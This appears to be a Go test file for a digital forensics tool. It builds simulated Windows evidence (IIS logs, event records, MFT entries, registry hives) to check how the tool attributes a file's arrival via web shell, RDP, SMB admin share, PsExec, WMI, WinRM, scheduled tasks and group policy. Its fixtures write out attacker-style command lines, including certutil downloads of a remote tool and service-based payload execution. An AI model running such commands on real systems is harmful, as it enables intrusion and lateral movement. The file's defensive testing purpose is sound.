package origin_test

import (
	"time"

	"github.com/birthmark-dfir/birthmark/evtx"
	"github.com/birthmark-dfir/birthmark/mft/mfttest"
	"github.com/birthmark-dfir/birthmark/origin"
	"github.com/birthmark-dfir/birthmark/registry/registrytest"
)

const (
	stranger = "203.0.113.77"
	jumpHost = "10.0.0.9"
)

// taskXML is the content of a task that runs a command.
func taskXML(author, command, arguments string) string {
	return `<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><Author>` + author +
		`</Author></RegistrationInfo><Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals><Actions Context="Author"><Exec><Command>` + command +
		`</Command><Arguments>` + arguments + `</Arguments></Exec></Actions></Task>`
}

// Machines that the subject was put on over the network.
func networks() []story {
	const (
		fields  = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-bytes cs-bytes time-taken"
		upload  = `C:\inetpub\wwwroot\files\report.aspx`
		visitor = "06:10:00 10.0.4.15 GET /index.aspx - 443 - 192.0.2.10 Mozilla/5.0 200 900 400 12"
		evening = "19:50:00 10.0.4.15 GET /index.aspx - 443 - 192.0.2.11 Mozilla/5.0 200 900 400 12"
		payload = `C:\Windows\payload.exe`
		psexec  = `C:\Windows\PSEXESVC.exe`
		wmi     = system32 + `wbem\WmiPrvSE.exe`
		winrm   = system32 + "wsmprovhost.exe"
	)
	serverStarted := under(ran("06:20:00", 4380, workerW3, `c:\windows\system32\inetsrv\w3wp.exe -ap "Portal"`, 1200, svchost, system), portal)
	admin := func(address string) *evtx.Security4624 { return signedOn("11:59:50", lee, 3, address, "-") }
	service := func(when, name, command string) []any {
		return []any{
			on(when, &evtx.Security4697{SubjectUserSid: lee.sid, SubjectUserName: lee.name, SubjectDomainName: lee.domain, SubjectLogonId: lee.logon, ServiceName: name, ServiceFileName: command,
				ServiceType: 0x10, ServiceStartType: 3, ServiceAccount: "LocalSystem"}),
			on(when, &evtx.System7045{ServiceName: name, ImagePath: command, ServiceType: "user mode service", StartType: "demand start", AccountName: "LocalSystem"}),
		}
	}

	return []story{
		{"an upload that IIS writes, without any process record", box("WEB01", day(),
			iis(fields, visitor, "11:58:00 10.0.4.15 GET /upload.aspx - 443 - "+stranger+" python-requests/2.31.0 200 700 300 10",
				"12:00:00 10.0.4.15 POST /upload.aspx - 443 - "+stranger+" python-requests/2.31.0 200 210 5310 190",
				"12:03:00 10.0.4.15 GET /files/report.aspx - 443 - "+stranger+" python-requests/2.31.0 200 90 300 900", evening),
			born(upload, "12:00:00.2134567", portal)),
			upload, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "unknown image=" + workerW3,
				origin.Account:  `inferred user=IIS APPPOOL\Portal | sid=` + portal.sid,
				origin.Arrival:  "inferred kind=web_upload | url=/upload.aspx | address=" + stranger,
				origin.WebEntry: "inferred method=POST | url=/upload.aspx | address=" + stranger + " | status=200 | time=2026-03-02T12:00:00Z",
				origin.Executed: "inferred time=2026-03-02T12:03:00Z",
			}},

		{"a web shell's child writes it", box("WEB01", auditedDay(), serverStarted,
			signedOn("06:19:59", portal, 5, "-", ""),
			ran("11:59:59", 5400, shell, `cmd /c certutil -urlcache -f `+depotURL+` `+tool, 4380, workerW3, portal),
			ran("11:59:59.3", 5410, system32+"certutil.exe", "certutil  -urlcache -f "+depotURL+" "+tool, 5400, shell, portal),
			ended("12:00:01", 5410, system32+"certutil.exe", portal),
			ended("12:00:01.1", 5400, shell, portal),
			iis(fields, visitor, "12:00:01 10.0.4.15 POST /files/report.aspx - 443 - "+stranger+" python-requests/2.31.0 200 210 310 2100", evening),
			born(tool, "12:00:00.2134567", portal)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + system32 + "certutil.exe | pid=5410 | parent_image=" + shell,
				origin.Account:  `inferred user=IIS APPPOOL\Portal | sid=` + portal.sid + ` | logon_id=0x6c0de`,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.WebEntry: "inferred image=" + workerW3 + " | pid=4380 | method=POST | url=/files/report.aspx | address=" + stranger,
				origin.Logon:    "inferred logon_id=0x6c0de | logon_type=5",
			}},

		{"copied from the drive of a Remote Desktop client", box("SRV02", auditedDay(),
			remoteDesktop("11:40:00", lee, stranger, 3, "SRV02"),
			ran("11:40:08", 3300, explorer, explorer, 3290, system32+"userinit.exe", lee),
			ran("12:00:00", 4312, shell, `cmd /c copy \\tsclient\C\tools\tool.exe `+tool, 3300, explorer, lee),
			ended("12:00:02", 4312, shell, lee),
			mfttest.File{Path: inVolume(tool), Data: []byte("t"), Owner: admins.sid,
				Times: mfttest.Times{Created: clock("12:00:00.2134567"), Modified: clock("01:00:00"), Changed: clock("12:00:00.4"), Accessed: clock("12:00:00.4")}}),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + shell + " | pid=4312",
				origin.Account:  `inferred user=CORP\adm.lee`,
				origin.Arrival:  "inferred kind=rdp | address=" + stranger,
				origin.Logon:    "inferred logon_id=0x7f301 | logon_type=10 | address=" + stranger + " | not=(SRV02)",
			}},

		{"pasted in Remote Desktop, and nothing but the logon is recorded", box("SRV02", day(),
			remoteDesktop("11:40:00", lee, stranger, 3, "SRV02"),
			born(`C:\Users\adm.lee\Desktop\tool.exe`, "12:00:00.2134567", lee)),
			`C:\Users\adm.lee\Desktop\tool.exe`, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "unknown image=" + explorer + " | because=source_absent",
				origin.Account:  `inferred user=CORP\adm.lee | sid=` + lee.sid,
				origin.Arrival:  "unknown kind=rdp | address=" + stranger,
				origin.Logon:    "inferred logon_id=0x7f301 | logon_type=10 | address=" + stranger,
			}},

		// A client of the share wrote it, and installed the service that ran it.
		{"an administrative share and a service", box("SRV02", auditedDay(), admin(stranger),
			shared("12:00:00.1", lee, stranger, "ADMIN$", `C:\Windows`, "payload.exe"),
			service("12:00:01.4", "Payload", `%SystemRoot%\payload.exe`),
			ran("12:00:01.6", 6000, payload, payload, 700, services, system),
			ended("12:09:00", 6000, payload, system),
			signedOff("12:08:00", lee, 3),
			born(payload, "12:00:00.2134567", admins)),
			payload, truth{
				origin.Appeared:  "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:    "inferred image=System | pid=4",
				origin.Account:   `inferred user=CORP\adm.lee | sid=` + lee.sid + ` | logon_id=0x7f301`,
				origin.Arrival:   "inferred kind=smb | address=" + stranger,
				origin.Logon:     "inferred logon_id=0x7f301 | logon_type=3 | address=" + stranger,
				origin.Executed:  "recorded time=2026-03-02T12:00:01.6Z | count=1 | user=NT AUTHORITY\\SYSTEM | parent_image=" + services,
				origin.Autostart: "inferred category=service | name=Payload | state=logged",
			}},

		{"PsExec copies the program that it runs", box("SRV02", auditedDay(), admin(stranger),
			shared("11:59:59.9", lee, stranger, "ADMIN$", `C:\Windows`, "PSEXESVC.exe"),
			shared("12:00:00.1", lee, stranger, "ADMIN$", `C:\Windows`, "payload.exe"),
			service("12:00:01.4", "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`),
			ran("12:00:01.6", 6000, psexec, psexec, 700, services, system),
			ran("12:00:02", 6010, payload, `"payload.exe"`, 6000, psexec, system),
			born(psexec, "11:59:59.95", admins),
			born(payload, "12:00:00.2134567", admins)),
			payload, truth{
				origin.Appeared:   "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:     "inferred image=System | pid=4",
				origin.Account:    `inferred user=CORP\adm.lee | sid=` + lee.sid + ` | logon_id=0x7f301`,
				origin.Arrival:    "inferred kind=smb | address=" + stranger,
				origin.Logon:      "inferred logon_id=0x7f301 | logon_type=3 | address=" + stranger,
				origin.Companions: "unknown file=" + psexec,
				origin.Executed:   "recorded time=2026-03-02T12:00:02Z | count=1 | user=NT AUTHORITY\\SYSTEM | parent_image=" + psexec,
			}},

		// Since Sysmon 13 the kernel's writes bear the account of the kernel.
		{"the kernel writes for a client of a share", box("SRV02", sysmonDay(), admin(stranger),
			shared("12:00:00.1", lee, stranger, "ADMIN$", `C:\Windows`, "payload.exe"),
			&evtx.Sysmon11{System: evtx.System{TimeCreated: clock("12:00:00.2134567")}, UtcTime: clock("12:00:00.213"), ProcessGuid: guid(90), ProcessId: 4, Image: "System",
				TargetFilename: payload, CreationUtcTime: clock("12:00:00.213"), User: system.String()},
			born(payload, "12:00:00.2134567", admins)),
			payload, truth{
				origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "recorded image=System | pid=4",
				origin.Account:  `inferred user=CORP\adm.lee | sid=` + lee.sid + ` | logon_id=0x7f301`,
				origin.Arrival:  "inferred kind=smb | address=" + stranger,
				origin.Logon:    "inferred logon_id=0x7f301 | logon_type=3 | address=" + stranger,
			}},

		{"a task that was registered over the network", box("SRV02", auditedDay(), admin(stranger),
			on("11:59:52",
				&evtx.Security4698{SubjectUserSid: lee.sid, SubjectUserName: lee.name, SubjectDomainName: lee.domain, SubjectLogonId: lee.logon, TaskName: `\Upd`, TaskContent: taskXML(lee.String(), "cmd.exe", "/c certutil -urlcache -f "+depotURL+" "+tool), RpcCallClientLocality: 1, FQDN: "SRV02.corp.example"}),
			on("11:59:52.1", &evtx.TaskScheduler106{TaskName: `\Upd`, UserContext: lee.String()}),
			on("11:59:58", &evtx.TaskScheduler110{TaskName: `\Upd`, UserContext: lee.String(), InstanceId: guid(7)}),
			on("11:59:58.2", &evtx.TaskScheduler129{TaskName: `\Upd`, Path: "cmd.exe", TaskProcessID: 5400, Priority: 16384}),
			ran("11:59:58.2", 5400, shell, "cmd.exe /c certutil -urlcache -f "+depotURL+" "+tool, 900, svchost, system),
			ran("11:59:58.6", 5410, system32+"certutil.exe", "certutil  -urlcache -f "+depotURL+" "+tool, 5400, shell, system),
			ended("12:00:01", 5410, system32+"certutil.exe", system),
			born(tool, "12:00:00.2134567", system)),
			tool, truth{
				origin.Appeared:  "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:    "inferred image=" + system32 + "certutil.exe | pid=5410",
				origin.Account:   `inferred user=NT AUTHORITY\SYSTEM | sid=S-1-5-18 | logon_id=0x3e7`,
				origin.Arrival:   "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:     "unknown logon_id=0x7f301 | logon_type=3 | address=" + stranger + " | logon_id=0x3e7 | logon_type=5",
				origin.Autostart: "unknown",
			}},

		{"a process of WMI for a remote client", box("SRV02", auditedDay(), admin(stranger),
			on("11:59:50.5",
				&evtx.WMI5857{ProviderName: "CIMWin32", HostProcess: "wmiprvse.exe", HostProcessID: 2100, ProviderPath: `%systemroot%\system32\wbem\cimwin32.dll`}),
			ran("11:59:58", 5400, shell, `cmd.exe /Q /c copy \\203.0.113.77\s\tool.exe `+tool, 2100, wmi, lee),
			ended("12:00:01", 5400, shell, lee),
			born(tool, "12:00:00.2134567", admins)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + shell + " | pid=5400 | parent_image=" + wmi,
				origin.Account:  `inferred user=CORP\adm.lee | sid=` + lee.sid + ` | logon_id=0x7f301`,
				origin.Arrival:  "inferred kind=smb | address=" + stranger,
				origin.Logon:    "inferred logon_id=0x7f301 | logon_type=3 | address=" + stranger,
			}},

		{"a script in WinRM writes its bytes", box("SRV02", auditedDay(), admin(stranger),
			on("11:59:50.6", &evtx.WinRM91{ResourceUri: "http://schemas.microsoft.com/powershell/Microsoft.PowerShell"}),
			under(ran("11:59:51", 5500, winrm, winrm+" -Embedding", 900, svchost, system), lee),
			on("11:59:59",
				&evtx.PowerShell4104{System: evtx.System{ProcessID: 5500, UserSID: lee.sid}, MessageNumber: 1, MessageTotal: 1, ScriptBlockText: `[IO.File]::WriteAllBytes('` + tool + `', $bytes)`, ScriptBlockId: "6c0f1d5e-0000-4000-8000-000000000002"}),
			born(tool, "12:00:00.2134567", admins)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + winrm + " | pid=5500",
				origin.Account:  `inferred user=CORP\adm.lee | sid=` + lee.sid + ` | logon_id=0x7f301`,
				origin.Arrival:  "unknown kind=winrm | kind=dropped | address=" + stranger,
				origin.Logon:    "inferred logon_id=0x7f301 | logon_type=3 | address=" + stranger,
			}},

		{"the start script of a group policy", box("SRV02", auditedDay(),
			on("06:00:20",
				&evtx.GroupPolicy4016{CSEExtensionId: guid(5), CSEExtensionName: "Scripts", GPOListStatusString: "%%4101", DescriptionString: "%%4102", ApplicableGPOList: "<GPO>Start</GPO>"}),
			ran("06:00:30", 2300, system32+"gpscript.exe", "gpscript.exe /Startup", 900, svchost, system),
			ran("06:00:31", 2310, shell,
				`cmd.exe /c "\\corp.example\SysVol\corp.example\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Scripts\Startup\put.cmd"`, 2300,
				system32+"gpscript.exe", system),
			ran("06:00:32", 2320, system32+"xcopy.exe", `xcopy /y \\corp.example\NETLOGON\tool.exe C:\ProgramData\Cache\`, 2310, shell, system),
			ended("06:00:33", 2320, system32+"xcopy.exe", system),
			mfttest.File{Path: inVolume(tool), Data: []byte("t"), Owner: admins.sid,
				Times: mfttest.Times{Created: clock("06:00:32.5"), Modified: clock("00:00:00").Add(-72 * time.Hour), Changed: clock("06:00:32.6"), Accessed: clock("06:00:32.6")}}),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T06:00:32.5Z",
				origin.Writer:   "inferred image=" + system32 + "xcopy.exe | pid=2320",
				origin.Account:  `inferred user=NT AUTHORITY\SYSTEM | sid=S-1-5-18 | logon_id=0x3e7`,
				origin.Arrival:  "unknown kind=smb",
				origin.Logon:    "unknown logon_id=0x3e7 | logon_type=5",
			}},

		// With a SACL on the folder the Security log names the writer with the file.
		{"a service account, by the audit of the folder", box("SRV02", auditedDay(),
			signedOn("06:05:00", backup, 5, "-", "SRV02"),
			under(ran("06:05:01", 2400, `C:\Program Files\Backup\agent.exe`, `"C:\Program Files\Backup\agent.exe" -service`, 700, services, system), backup),
			accessed("12:00:00.2134567", backup, 2400, `C:\Program Files\Backup\agent.exe`, tool),
			born(tool, "12:00:00.2134567", backup)),
			tool, truth{
				origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   `corroborated image=C:\Program Files\Backup\agent.exe | pid=2400`,
				origin.Account:  `corroborated user=CORP\svc_backup | sid=` + backup.sid + ` | logon_id=0x2b001`,
				origin.Arrival:  "unknown kind=dropped",
				origin.Logon:    "corroborated logon_id=0x2b001 | logon_type=5",
			}},

		{"a service that a client of the share installed again and removed", box("SRV02", day(), admin(stranger),
			shared("12:00:00.1", lee, stranger, "ADMIN$", `C:\Windows`, "payload.exe"),
			service("12:00:01.4", "Payload", `\\127.0.0.1\ADMIN$\payload.exe`),
			signedOff("12:08:00", lee, 3),
			born(payload, "12:00:00.2134567", admins),
			hiveAt{hiveFolder + "SYSTEM", emptySystem("SRV02")}),
			payload, truth{
				origin.Appeared:  "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:    "inferred image=System | pid=4",
				origin.Account:   `inferred user=CORP\adm.lee | sid=` + lee.sid + ` | logon_id=0x7f301`,
				origin.Arrival:   "inferred kind=smb | address=" + stranger,
				origin.Logon:     "inferred logon_id=0x7f301 | logon_type=3 | address=" + stranger,
				origin.Autostart: "inferred category=service | name=Payload | state=removed | state=logged",
			}},
	}
}

// emptySystem is a SYSTEM hive of a machine with no service but Windows' own.
func emptySystem(computer string) *registrytest.Hive {
	h := &registrytest.Hive{Name: "SYSTEM"}
	h.Set("Select", noon, registrytest.DWord("Current", 1))
	h.Set(`ControlSet001\Control\ComputerName\ComputerName`, noon.AddDate(-1, 0, 0), registrytest.SZ("ComputerName", computer))
	h.Set(`ControlSet001\Services\EventLog`, noon.AddDate(-1, 0, 0), registrytest.ExpandSZ("ImagePath", `%SystemRoot%\System32\svchost.exe -k LocalServiceNetworkRestricted`), registrytest.DWord("Start", 2), registrytest.DWord("Type", 0x20))
	return h
}
